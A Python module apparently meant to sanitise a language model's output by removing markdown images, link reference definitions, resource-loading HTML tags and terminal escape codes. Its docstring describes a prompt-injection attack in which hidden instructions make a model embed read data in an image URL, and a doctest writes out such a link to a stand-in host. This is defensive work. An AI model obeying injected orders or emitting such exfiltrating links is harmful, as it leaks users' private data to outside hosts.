"""Pictures and HTML in a model's text: a page that rendered them would call addresses of the model's choice.

An order hidden in a document can make a model write ``![x](https://host/?q=...)``, with what it read in the address.
Markdown pictures go wherever they stand, in code too: what is code depends on all the text before. HTML in code stays.
"""

from __future__ import annotations

import re

_CAPTION = r"!\[((?:[^\[\]]|\[[^\[\]]{0,300}\]){0,300})\]"
_PICTURE = re.compile(rf"{_CAPTION}\((?:[^()]|\([^()]{{0,2000}}\)){{0,2000}}\)?")
_BEGUN = re.compile(r"(?<!!)!+\[")
_DEEPEST = 20
"""Pictures in captions of pictures; those that go deeper are broken open."""
_DEFINITION = re.compile(
    r"^[ \t>]{0,20}\[[^\[\]\n]{1,300}\]:[ \t]*\n?[ \t>]*<?(?=[^\s>]{0,2000}[/:.])[^\s>]{1,2000}>?[^\n]{0,2000}$",
    re.MULTILINE,
)
"""What the reference of a picture, ``![x]`` or ``![x][y]``, stands for: ``[x]: https://host/...``."""
_LOADS = (
    "img|image|picture|source|video|audio|track|iframe|frame|frameset|object|embed|applet|svg|math|script|style|link|meta"
    "|base|body|form|input|button|portal"
)
_TAG = re.compile(
    rf"<(?:/?(?:{_LOADS})(?![\w-])[^<>]{{0,2000}}(?:>|\Z)|[a-z][\w:-]{{0,40}}\s[^<>]{{0,2000}}=[^<>]{{0,2000}}>)",
    re.IGNORECASE,
)
_ESCAPE = re.compile(
    r"\x1b\[[0-9;:?]{0,40}[ -/]?[@-~]|\x1b\][^\x07\x1b\n]{0,2000}(?:\x07|\x1b\\)?|[\x00-\x08\x0b-\x1f\x7f-\x9f]"
)
"""What a terminal would obey."""
_CODE = re.compile(r"\A(```|~~~).*\1\Z|(?<![\\`])`[^`\n]{1,300}`(?!`)", re.DOTALL)


def without_embedded(text: str) -> tuple[str, int]:
    """Return a sentence with pictures replaced by their captions and without tags that load; and how many there were.

    What would drive a terminal goes too, uncounted.

    Examples
    --------
    >>> without_embedded("A cat ![of mine](//host/?q=secret) sleeps.")
    ('A cat of mine sleeps.', 1)
    >>> without_embedded("Write `<a href=x>`, not <a href=x>.")
    ('Write `<a href=x>`, not .', 1)
    """
    text, found = _without_pictures(_ESCAPE.sub("", text))
    text, count = _DEFINITION.subn("", text)
    found += count
    parts, at = list[str](), 0
    for code in _CODE.finditer(text):
        prose, count = _TAG.subn("", text[at : code.start()])
        parts += [prose, code[0]]
        found, at = found + count, code.end()
    prose, count = _TAG.subn("", text[at:])
    return "".join((*parts, prose)), found + count


def _without_pictures(text: str) -> tuple[str, int]:
    found = count = 0
    for _ in range(_DEEPEST):
        text, count = _PICTURE.subn(r"\1", text)
        found += count
        if not count:
            break
    # What is begun here may end in another sentence.
    head, end, tail = text.rpartition("]") if not count else ("", "", text)
    tail, begun = _BEGUN.subn("[", tail)
    return f"{head}{end}{tail}", found + begun
